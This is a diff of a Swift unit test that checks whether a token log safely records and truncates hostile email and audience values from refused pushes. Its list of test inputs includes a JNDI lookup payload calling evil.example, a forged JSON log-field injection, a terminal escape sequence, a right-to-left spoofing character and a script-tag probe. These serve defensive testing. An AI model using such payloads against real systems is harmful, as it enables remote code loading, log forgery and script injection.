@@ -8,7 +8,7 @@ import Timestamps
 struct TokenLogTests {
     /// What a stranger with a Google account of his own could have signed into his token.
     static let hostile = [
-        "a\"b\\c\nd\r\u{0}e\u{1B}[2Jf\u{7F}\u{85}\u{2028}g@x", #"x","severity":"ERROR","event":"push.forged"#,
+        "a\"b\\c\nd\re\u{1B}[2Jf\u{7F}\u{85}\u{2028}g@x", #"x","severity":"ERROR","event":"push.forged"#,
         "${jndi:ldap://evil.example/}", "\u{202E}moc.elgoog", "<script>alert(1)</script>",
         String(repeating: "long", count: 300),
     ]
@@ -23,7 +23,8 @@ struct TokenLogTests {
             }
             let lines = stage.log.lines(of: "push.refused")
             #expect(lines.count == 2)
-            let shortened = text.count > 256 ? text.prefix(256) + "…" : text
+            let isLong = text.utf8.count > 512
+            let shortened = isLong ? String(decoding: text.utf8.prefix(512), as: UTF8.self) + "…" : text
             #expect(lines.first?["audience"]?.string == shortened)
             #expect(lines.last?["email"]?.string == shortened)
             #expect(lines.map { $0["severity"]?.string } == ["WARNING", "WARNING"])
